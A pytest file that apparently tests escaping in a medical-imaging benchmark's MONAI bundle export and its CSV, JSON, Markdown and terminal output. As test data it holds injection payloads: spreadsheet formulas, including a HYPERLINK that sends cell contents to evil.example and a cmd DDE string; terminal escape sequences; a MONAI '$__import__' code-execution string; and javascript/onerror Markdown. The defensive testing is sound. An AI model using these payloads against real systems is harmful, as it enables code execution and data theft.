"""Names of classes and files that MONAI, Markdown, spreadsheets, terminals or JSON readers would take for commands."""

from __future__ import annotations

import csv
import io
import json
import re
import warnings
from pathlib import Path
from typing import Any

import pytest

from m3b.bench.render import to_csv
from m3b.bench.tables import ResultTable
from m3b.cli.prediction_output import write_table
from m3b.models.export.monai_bundle import as_data, make_metadata
from m3b.models.model_card import escape_markdown
from m3b.models.prediction_store import write_json
from m3b.writing import csv_cell, escape_control_codes, json_text, to_one_line

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"ok")', "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1",
            "＝1+1", "－1＋2"]  # fmt: skip
NAMES = ["e\x1b[31mred", "\x1b]8;;http://evil.example\x07", "\x9b31m", "M\udcfcller", "gpj\u202egnp", "\x7f", "\x00"]

# --- MONAI bundles ------------------------------------------------------------------------------------------------

PROGRAMS = [
    "$__import__('pathlib').Path('PWNED').touch()",
    "$@bundle_root",
    "@bundle_root",
    "%configs/metadata.json::version",
    "%version",
    "a@##version",
    "a%::::version",
    "@#0",
    "_target_",
    "plain",
    "",
    " $ in the middle",
    "fish & chips, 5% @ $3",
]


def parse(content: dict[str, Any]) -> Any:
    """What MONAI's parser makes of a configuration."""
    from monai.bundle import ConfigParser

    parser = ConfigParser(content)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        parser.parse()
        return parser.get_parsed_content()


@pytest.mark.parametrize("name", PROGRAMS)
def test_monai_reads_a_class_name_as_a_text(tmp_path: Path, name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    pytest.importorskip("monai")
    monkeypatch.chdir(tmp_path)
    facts = {
        "task": "diagnosis",
        "classes": [name, "other"],
        "channels": [name],
        "image": {"channel_names": [name]},
        "preprocessing": {
            "divide": 255,
            "note": name,
            name: name,
            "steps": [{"_target_": "pathlib.Path.touch", "self": "x"}],
        },
    }
    state = {"inputs": [[1, 1, 8, 8]], "outputs": [[1, 2]]}
    metadata = make_metadata(facts, state, name)
    assert metadata["classes"][0].replace(" ", "") == name.replace(" ", "")
    read = parse(json.loads(json.dumps(metadata)))
    colons = [json.dumps(content).replace("#", "::") for content in (read, metadata)]  # MONAI writes :: for #
    assert colons[0] == colons[1]
    assert read["network_data_format"]["outputs"]["pred"]["channel_def"]["0"] == read["classes"][0]
    assert list(tmp_path.iterdir()) == []


def test_the_signs_do_something_in_monai(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Unescaped, the first of these programs runs: MONAI still works as the escaping assumes."""
    pytest.importorskip("monai")
    monkeypatch.chdir(tmp_path)
    parse({"classes": [PROGRAMS[0]]})
    assert (tmp_path / "PWNED").exists()
    assert parse({"version": "1", "classes": ["%version"]})["classes"] == ["1"]


def test_plain_facts_stay_as_they_are() -> None:
    facts = {"divide": 255, "mean": [0.5], "name": "fat-suppressed T2, 1.5 T", "none": None, "flag": True}
    assert as_data(facts) == facts


def test_a_bundle_of_a_hostile_class_name_runs_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The whole way: a model whose class is called like a program, exported, its workflow initialised and read."""
    pytest.importorskip("monai")
    pytest.importorskip("torch")
    from monai.bundle import ConfigWorkflow

    from m3b.models.export import export_model
    from models.export_kit import PARTS, PREDICT, make_deliverable

    program = f"$open({str(tmp_path / 'PWNED')!r}, 'w')"
    model = make_deliverable(tmp_path / "model")
    for name, text in (("predict.py", PREDICT), ("parts.py", PARTS)):
        (model / name).write_text(text.replace('"dark"', repr(program)))
    (model / "config.json").write_text(json.dumps({"classes": [program, "light"], "plan": {"dims": 2}}))
    (model / "README.md").write_text(f"# {program}\n")
    bundle = export_model(model, "monai-bundle", tmp_path / "bundle").folder
    monkeypatch.chdir(bundle)
    workflow = ConfigWorkflow(str(bundle / "configs/inference.json"), workflow_type="infer", bundle_root=str(bundle),
                              meta_file=str(bundle / "configs/metadata.json"))  # fmt: skip
    content = workflow.parser.get_parsed_content("_meta_") if "_meta_" in workflow.parser else {}
    assert content["classes"] == [f" {program}", "light"]
    assert content["description"] == f" {program}"
    assert not (tmp_path / "PWNED").exists()


# --- CSV, JSON, Markdown and terminals ----------------------------------------------------------------------------


def prediction(image: str, name: str) -> dict[str, Any]:
    return {"image": image, "probabilities": {name: 0.25, "b": -0.75}, "prediction": [name], "findings": name}


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_predictions_is_a_formula(tmp_path: Path, text: str) -> None:
    write_table([prediction(text, text)], tmp_path / "x.csv")
    with (tmp_path / "x.csv").open(newline="", encoding="utf-8") as file:
        head, row = list(csv.reader(file))
    cells = [cell for cell in (*head, *row) if not re.fullmatch(r"-?[\d.]+", cell)]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "－"))]
    assert head[1] == csv_cell(text)
    assert row[2] == "-0.75", "numbers stay numbers"


@pytest.mark.parametrize(
    ("value", "cell"),
    [(-3.5, -3.5), (0, 0), (True, True), (None, None), ("-3.5", "-3.5"),
        ("-71.4 to -17.8", "-71.4 to -17.8"),
        ("-1 to A1", "'-1 to A1"), ("+1e-3", "+1e-3"), ("-", "-"), ("1-2", "1-2"),
     ("-1-2", "'-1-2"), ("=1", "'=1"), ("'=1", "'=1"), ("a=1", "a=1"), ("", "")],
)  # fmt: skip
def test_cells(value: object, cell: object) -> None:
    assert csv_cell(value) == cell
    assert type(csv_cell(value)) is type(cell)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_benchmark_is_a_formula(text: str) -> None:
    table = ResultTable("x", "X", ("model", "change"), ((text, "-0.5"),), ())
    assert list(csv.reader(io.StringIO(to_csv(table))))[1] == [csv_cell(text), "-0.5"]
    assert csv_cell(text).startswith("'")


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("ending", [".csv", ".json"])
def test_control_codes_and_odd_bytes_are_escaped_in_files(tmp_path: Path, name: str, ending: str) -> None:
    file = tmp_path / f"x{ending}"
    (write_json if ending == ".json" else write_table)([prediction(f"{name}.png", name)], file)
    text = file.read_text(encoding="utf-8")
    assert not [sign for sign in text if sign != "\r" and escape_control_codes(sign) != sign]
    if ending == ".json":
        assert json.loads(text) == [prediction(f"{name}.png", name)], "the name is still that of the file"


@pytest.mark.parametrize("name", NAMES)
def test_control_codes_are_escaped_in_lines_and_cards(name: str) -> None:
    for text in (to_one_line(name), escape_control_codes(name), escape_markdown(name), json_text(name)):
        assert text.isprintable()
        text.encode()


@pytest.mark.parametrize(
    "text", ["[a](javascript:x)", "<img src=x onerror=y>", "![a](http://evil.example)", "a | b", "`x`", "# x"]
)
def test_markdown_of_cards_is_escaped(text: str) -> None:
    assert not re.search(r"(?<!\\)[\\`*_\[\]<>|#](?![\\`*_\[\]<>|#])", escape_markdown(text))
